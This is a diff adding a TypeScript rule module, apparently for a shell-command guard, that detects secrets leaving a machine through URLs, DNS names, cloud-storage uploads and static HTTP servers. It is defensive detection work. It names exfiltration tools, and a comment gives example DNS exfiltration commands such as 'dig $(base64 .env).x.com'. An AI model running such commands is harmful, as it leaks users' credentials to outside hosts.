@@ -1,0 +1,167 @@
+import { resolvePath } from '../../paths';
+import type { ArgWord, Finding, Invocation, RuleContext } from '../../policy/types';
+import { readFinding } from '../credentials';
+import { infoFor, pathsOfWord } from './credentialPaths';
+import { dump, dumpTarget, isSecretVariableName, positionals } from './huntCommon';
+
+/**
+ * Secrets leaving the machine by roads the sent-out rules of the hunt pack do not read: a secret
+ * variable in a URL's path or query to a host that is not its service, a secret or a file's contents
+ * spelled into a DNS name, credential files copied to cloud storage, and a folder holding credential
+ * files served over HTTP.
+ */
+
+
+/** Which service a variable's name says it belongs to, compared with a host by its words. */
+function variableOwnHost(variable: string, host: string): boolean {
+  const words = variable.toLowerCase().split('_').filter((w) => w.length >= 3 && !/^(api|key|keys|token|secret|access|auth|password|pass|url|uri|private|client|app|the)$/.test(w));
+  return words.some((w) => host.toLowerCase().includes(w));
+}
+
+const DNS_TOOLS = new Set(['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'delv', 'kdig', 'getent', 'resolvectl', 'traceroute', 'mtr']);
+const HTTP_TOOLS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'xhs', 'httpie', 'curlie', 'aria2c', 'lynx', 'links', 'w3m']);
+
+export function checkSecretsInAddresses(inv: Invocation): Finding[] {
+  const out: Finding[] = [];
+  const finding = (variable: string, where: string): Finding => ({
+    rule: 'credentials.sent-out',
+    risk: 'credential-dump',
+    severity: 'ask',
+    reason: `${inv.name} sends ${variable} to ${where}, which is not the service it belongs to.`,
+    targets: [{ kind: 'credential', name: variable, remote: true, environment: 'local', environmentReason: 'a secret of this machine' }],
+  });
+  if (HTTP_TOOLS.has(inv.name)) {
+    for (const a of inv.args) {
+      const m = /^['"]?[a-z][a-z0-9+.-]*:\/\/([^/?#'"\s]*)([^'"\s]*)/i.exec(a.raw);
+      if (!m) continue;
+      const authority = m[1] ?? '';
+      const host = authority.replace(/^[^@]*@/, '').replace(/:\d+$/, '');
+      for (const v of [...a.raw.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((x) => x[1] ?? '')) {
+        // In the host part: the request's address is the secret; after it: the query or path carries it.
+        if (!isSecretVariableName(v) || /[$]/.test(host) && !host.includes(v)) continue;
+        if (!/[$]/.test(host) && variableOwnHost(v, host)) continue;
+        out.push(finding(`the secret variable $${v}`, host.includes('$') ? 'a host named by the secret' : host));
+        break;
+      }
+    }
+  }
+  if (DNS_TOOLS.has(inv.name) || HTTP_TOOLS.has(inv.name) || inv.name === 'nc' || inv.name === 'ncat' || inv.name === 'ssh') {
+    // A secret or a file's contents spelled into a host name leaves through DNS: `dig $KEY.x.com`, `dig $(base64 .env).x.com`.
+    for (const a of inv.args) {
+      const hostLike = a.raw.replace(/^['"]|['"]$/g, '').replace(/^[a-z]+:\/\//i, '').split(/[/?#:]/)[0] ?? '';
+      if (!/[$`]/.test(hostLike) || !/\./.test(hostLike)) continue;
+      const v = [...hostLike.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((x) => x[1] ?? '').find(isSecretVariableName);
+      const substituted = /\$\(|`/.test(hostLike);
+      if (v || substituted) {
+        out.push(finding(v ? `the secret variable $${v}` : 'the output of a command', `the DNS name ${hostLike.replace(/\$\(.*\)|`.*`/, '…').slice(0, 60)}`));
+        break;
+      }
+    }
+  }
+  return out;
+}
+
+/** Cloud storage uploads: the local sources of `aws s3 cp/mv/sync`, `gsutil cp`, `gcloud storage cp`, `az storage blob upload`, `rclone`, `s3cmd put`, `mc cp`. */
+function uploadSources(inv: Invocation): ArgWord[] {
+  const p = inv.args.filter((a) => !a.text.startsWith('-'));
+  const words = p.map((a) => a.text);
+  const remote = (t: string): boolean => /^[a-z0-9]+:\/\//i.test(t) || /^[\w.-]+:/.test(t) && !t.startsWith('/');
+  const localBefore = (from: number): ArgWord[] => p.slice(from, -1).filter((a) => !remote(a.text));
+  switch (inv.name) {
+    case 'aws':
+      return words[0] === 's3' && ['cp', 'mv', 'sync'].includes(words[1] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(2) : [];
+    case 'gsutil':
+      return ['cp', 'mv', 'rsync'].includes(words[0] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(1) : [];
+    case 'gcloud':
+      return words[0] === 'storage' && ['cp', 'mv', 'rsync'].includes(words[1] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(2) : [];
+    case 'rclone':
+      return ['copy', 'copyto', 'move', 'moveto', 'sync'].includes(words[0] ?? '') && remote(words[words.length - 1] ?? '') ? localBefore(1) : [];
+    case 's3cmd':
+      return ['put', 'sync'].includes(words[0] ?? '') ? localBefore(1) : [];
+    case 'mc':
+      return ['cp', 'mv', 'mirror'].includes(words[0] ?? '') ? localBefore(1) : [];
+    case 'az': {
+      if (words[0] !== 'storage' || !/^(blob|file|fs)$/.test(words[1] ?? '') || !/^upload(-batch)?$/.test(words[2] ?? '')) return [];
+      const i = inv.args.findIndex((a) => ['-f', '--file', '-s', '--source'].includes(a.text));
+      const v = i >= 0 ? inv.args[i + 1] : undefined;
+      return v ? [v] : [];
+    }
+    case 'b2':
+      return words[0] === 'upload-file' || words[0] === 'file' ? p.slice(2, 3) : [];
+    default:
+      return [];
+  }
+}
+
+/** Static file servers and the folder they serve: `python -m http.server -d ~`, `npx http-server`, `php -S … -t DIR`. */
+function servedFolder(inv: Invocation): string | undefined {
+  const t = inv.args.map((a) => a.text);
+  if (/^python[0-9.]*$/.test(inv.name)) {
+    const m = t.indexOf('-m');
+    if (m < 0 || !['http.server', 'SimpleHTTPServer', 'uploadserver'].includes(t[m + 1] ?? '')) return undefined;
+    const d = t.findIndex((x) => x === '-d' || x === '--directory');
+    return d >= 0 ? (t[d + 1] ?? '.') : t.find((x) => x.startsWith('--directory='))?.slice(12) ?? '.';
+  }
+  if (['http-server', 'serve', 'live-server', 'static-web-server', 'miniserve', 'darkhttpd', 'simple-http-server', 'caddy'].includes(inv.name)) {
+    if (inv.name === 'caddy' && t[0] !== 'file-server') return undefined;
+    const root = t.findIndex((x) => x === '--root' || x === '-r' || x === '--dir');
+    if (root >= 0) return t[root + 1];
+    const pos: string[] = [];
+    for (let i = 0; i < t.length; i++) {
+      const w = t[i] as string;
+      if (w.startsWith('-')) {
+        if (['-p', '--port', '-a', '--address', '-l', '--listen', '-c', '--cache', '-i', '--interfaces'].includes(w)) i++;
+        continue;
+      }
+      if (!/^\d+$/.test(w)) pos.push(w);
+    }
+    return pos[0] ?? '.';
+  }
+  if (inv.name === 'php' && t.includes('-S')) {
+    const d = t.indexOf('-t');
+    return d >= 0 ? t[d + 1] : '.';
+  }
+  if (inv.name === 'ruby' && t.some((x) => x === '-run' || x === '-r' && t.includes('un')) && t.includes('httpd')) {
+    const after = t.slice(t.indexOf('httpd') + 1).filter((x) => !x.startsWith('-') && !/^\d+$/.test(x));
+    return after[0] ?? '.';
+  }
+  if ((inv.name === 'busybox' && t[0] === 'httpd') || inv.name === 'httpd' && inv.via.includes('busybox')) {
+    const h = t.indexOf('-h');
+    return h >= 0 ? t[h + 1] : '.';
+  }
+  return undefined;
+}
+
+export function checkSentFiles(inv: Invocation, ctx: RuleContext): Finding[] {
+  const facts = ctx.facts;
+  const cwd = inv.cwd || facts.cwd;
+  const out: Finding[] = [];
+  for (const w of uploadSources(inv)) {
+    for (const p of pathsOfWord(w, cwd, facts)) {
+      const info = infoFor(p, facts);
+      if (info) out.push({ ...readFinding('uploads', info, `${inv.name} ${positionals(inv.args).slice(0, 2).join(' ')}`), rule: 'credentials.sent-out' });
+      else if (facts.credentials && facts.fileStatus?.(p) === 'directory') {
+        for (const f of facts.credentials.filesUnder(p).slice(0, 4)) out.push({ ...readFinding('uploads', f, `${inv.name} ${positionals(inv.args).slice(0, 2).join(' ')}`), rule: 'credentials.sent-out' });
+      }
+    }
+  }
+  const served = servedFolder(inv);
+  if (served !== undefined && facts.credentials) {
+    const dir = resolvePath(cwd, served, facts.home);
+    const files = facts.credentials.filesUnder(dir);
+    const first = files[0];
+    if (first) {
+      out.push({
+        rule: 'credentials.sent-out',
+        risk: 'credential-read',
+        severity: 'ask',
+        reason: `${inv.name} serves ${served === '.' ? 'this folder' : served} over HTTP, with ${first.path} (${first.label})${files.length > 1 ? ` and ${files.length - 1} more credential file${files.length > 2 ? 's' : ''}` : ''} in it.`,
+        targets: files.slice(0, 4).map((f) => ({ kind: 'credential' as const, name: f.path, provider: 'filesystem', remote: false, environment: 'local' as const, environmentReason: 'a file on this machine' })),
+      });
+    } else if (facts.credentials.incomplete?.(dir)) {
+      out.push(dump('dump', `${inv.name} serves ${served} over HTTP; the guard could not list every file there in time to rule out credential files (answering conservatively).`, dumpTarget(served, ctx)));
+    }
+  }
+  return out;
+}
+
